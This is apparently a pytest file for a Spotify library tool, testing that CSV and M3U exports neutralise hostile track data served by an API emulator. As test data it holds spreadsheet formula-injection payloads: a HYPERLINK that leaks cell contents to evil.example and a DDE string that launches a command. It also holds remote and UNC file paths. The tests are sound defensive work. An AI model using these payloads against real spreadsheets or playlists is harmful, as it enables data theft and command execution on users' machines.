"""Finding 4: CSV and M3U exports must not trust the API's identifiers or names.

A hostile API (the emulator, serving crafted track objects) sends a URI that is a spreadsheet
formula, an ISRC that runs a command, names starting with `=`/`+`/`-`/`@`, and a URI naming a
remote file. After `login`, `sync` and `export --to-file` through the real CLI, no CSV cell starts a
formula and every M3U entry is a local path or a `spotify:` URI. Rows an older version stored
unchecked are exported just as safely.
"""

from __future__ import annotations

import csv
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from desktoprec.domain import Track
from desktoprec.errors import MalformedResponse
from desktoprec.export.files import render_csv, render_m3u
from desktoprec.spotify import parse
from desktoprec.spotify.emulator import EmulatorServer, generate_account

OPENER = f"{sys.executable} {Path(__file__).resolve().parents[1] / 'fake_browser.py'}"
FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=1+2+CMD|' /C CALC'!A0",
            "+1+1", "-2+3", "@SUM(1,1)", "\t=1", "\r=1", "  =1+1", "\uff1d1+1")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _cells_are_inert(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    for row in rows:
        for cell in row:
            assert cell.lstrip(" ")[:1] not in FORMULA_START, (cell, row)
    return rows


def _m3u_entries(path: Path) -> list[str]:
    entries = [line for line in path.read_text(encoding="utf-8").splitlines()
               if line and not line.startswith("#")]
    for entry in entries:
        assert entry.startswith(("/", "spotify:track:", "spotify:episode:", "spotify:local:")), entry
        assert "://" not in entry and "evil" not in entry, entry
    return entries


@pytest.fixture()
def hostile_api() -> EmulatorServer:
    account = generate_account(seed=11, saved_tracks=6, playlists=1)
    for (track_id, _added), formula in zip(account.saved, FORMULAS, strict=False):
        track = account.tracks[track_id]
        track["uri"] = formula
        track["name"] = formula
        track["external_ids"] = {"isrc": "=1+2+CMD|' /C CALC'!A0"}
        if track.get("album"):
            track["album"]["name"] = "@SUM(1,1)"
    last = account.tracks[account.saved[-1][0]]
    last["uri"] = "http://evil.example/remote.mp3"
    with EmulatorServer(account=account) as server:
        yield server


def test_hostile_identifiers_never_reach_a_csv_or_m3u(hostile_api: EmulatorServer,
                                                      tmp_path: Path) -> None:
    env = {**os.environ, "DESKTOPREC_HOME": str(tmp_path / "home"),
           "DESKTOPREC_SPOTIFY_API_URL": hostile_api.api_url,
           "DESKTOPREC_SPOTIFY_ACCOUNTS_URL": hostile_api.accounts_url}

    def cli(*args: str) -> subprocess.CompletedProcess[str]:
        done = subprocess.run([sys.executable, "-m", "desktoprec", *args], env=env,
                              capture_output=True, text=True, timeout=120, check=False)
        assert done.returncode == 0, (args, done.stderr[-2000:])
        return done

    cli("login", "--client-id", "emu-client", "--open-with", OPENER, "--timeout", "60")
    cli("sync")
    ids = [track_id for track_id, _ in hostile_api.account.saved]
    uris = tmp_path / "uris.txt"
    uris.write_text("".join(f"spotify:track:{i}\n" for i in ids))
    cli("export", "--name", "x", "--uris-file", str(uris), "--to-file", str(tmp_path / "l.csv"))
    cli("export", "--name", "x", "--uris-file", str(uris), "--to-file", str(tmp_path / "l.m3u"))
    rows = _cells_are_inert(tmp_path / "l.csv")
    header, body = rows[0], rows[1:]
    assert len(body) == len(ids)
    by_column = [dict(zip(header, row, strict=True)) for row in body]
    assert [r["uri"] for r in by_column] == [f"spotify:track:{i}" for i in ids]
    assert all(r["isrc"] == "" for r in by_column)  # not an ISRC: treated as missing
    assert by_column[0]["name"].startswith("'=HYPERLINK")  # shown as text, not dropped
    assert _m3u_entries(tmp_path / "l.m3u") == [f"spotify:track:{i}" for i in ids]
    # nothing unchecked was stored either
    with sqlite3.connect(tmp_path / "home" / "data" / "library.sqlite3") as db:
        marks = ",".join("?" * len(ids))
        stored = db.execute(f"SELECT uri, isrc FROM tracks WHERE id IN ({marks})",
                            ids).fetchall()
    assert stored and all(uri.startswith("spotify:track:") and isrc is None
                          for uri, isrc in stored)


def test_rows_stored_unchecked_by_an_older_version_are_exported_safely() -> None:
    tracks = [
        Track(id="=1+2", name="-x", artists=("+a",), uri="http://evil.example/remote.mp3",
              isrc="=CMD()", local_path=None),
        Track(id="local:abc", name="@mine", artists=(), uri=None,
              local_path="http://evil.example/remote.mp3"),
        Track(id="local:def", name="ok", artists=(), uri=None, local_path="\\\\evil\\share\\x.mp3"),
        Track(id="4uLU6hMCjMI75M1A2tKUQC", name="fine", artists=("A",),
              uri='=HYPERLINK("x")', isrc="USUM71703861", local_path="/music/a b.flac"),
        Track(id="6rqhFgbbKwnb9MLmUQDhG6", name="fine", artists=("A",),
              uri="spotify:track:6rqhFgbbKwnb9MLmUQDhG6"),
    ]
    m3u = render_m3u(tracks)
    entries = [line for line in m3u.splitlines() if line and not line.startswith("#")]
    assert entries == ["/music/a b.flac", "spotify:track:6rqhFgbbKwnb9MLmUQDhG6"]
    table = render_csv(tracks)
    rows = list(csv.reader(table.splitlines()))
    for row in rows:
        for cell in row:
            assert cell.lstrip(" ")[:1] not in FORMULA_START, cell
    assert rows[4][2] == "spotify:track:4uLU6hMCjMI75M1A2tKUQC" and rows[4][7] == "USUM71703861"
    assert rows[1][7] == "" and rows[1][2] == ""


@pytest.mark.parametrize(("value", "valid"), [
    ("4uLU6hMCjMI75M1A2tKUQC", True), ("4uLU6hMCjMI75M1A2tKUQ", False),
    ("4uLU6hMCjMI75M1A2tKUQC=", False), ("=HYPERLINK(\"x\")AAAAAA", False), ("", False),
])
def test_spotify_ids_are_checked_on_parse(value: str, valid: bool) -> None:
    data = {"id": value, "uri": f"spotify:track:{value}", "name": "x"}
    if valid:
        assert parse.parse_track(data).uri == f"spotify:track:{value}"
    else:
        with pytest.raises(MalformedResponse):
            parse.parse_track(data)


@pytest.mark.parametrize(("value", "expected"), [
    ("usum71703861", "USUM71703861"), ("US-UM7-17-03861", "USUM71703861"),
    ("=1+2+CMD|' /C CALC'!A0", None), ("USUM7170386", None), ("USUM717038612", None),
    ("12UM71703861", None), (12, None),
])
def test_isrcs_are_checked_on_parse(value: object, expected: str | None) -> None:
    track = parse.parse_track({"id": "4uLU6hMCjMI75M1A2tKUQC", "uri": "x", "name": "x",
                               "external_ids": {"isrc": value}})
    assert track.isrc == expected and track.uri == "spotify:track:4uLU6hMCjMI75M1A2tKUQC"
